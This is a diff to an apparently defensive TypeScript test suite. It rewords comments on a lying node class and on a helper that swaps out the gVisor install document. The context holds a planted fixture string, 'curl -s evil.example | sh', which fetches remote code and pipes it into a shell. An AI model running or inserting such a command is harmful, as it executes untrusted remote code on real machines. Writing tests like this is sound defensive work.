@@ -8,7 +8,7 @@ import { on, Scenario, type ScenarioRun } from './scenario.ts';
 const planted = 'curl -s evil.example | sh';
 const minute = 60_000;
 
-/** A node that says of its installation what it likes. */
+/** A node that reports any installation it likes. */
 class Liar extends ModelledMachine {
   override async run(script: Script) {
     const ended = await super.run(script);
@@ -16,7 +16,7 @@ class Liar extends ModelledMachine {
   }
 }
 
-/** Has the document that installs gVisor say something else, under its name. Plays the launch after it, and gives every script that ran. */
+/** Replaces the content of the document that installs gVisor, under its name. Plays the next launch, and returns every script that ran. */
 async function withDocument(
   assembly: string,
   rights: readonly string[],
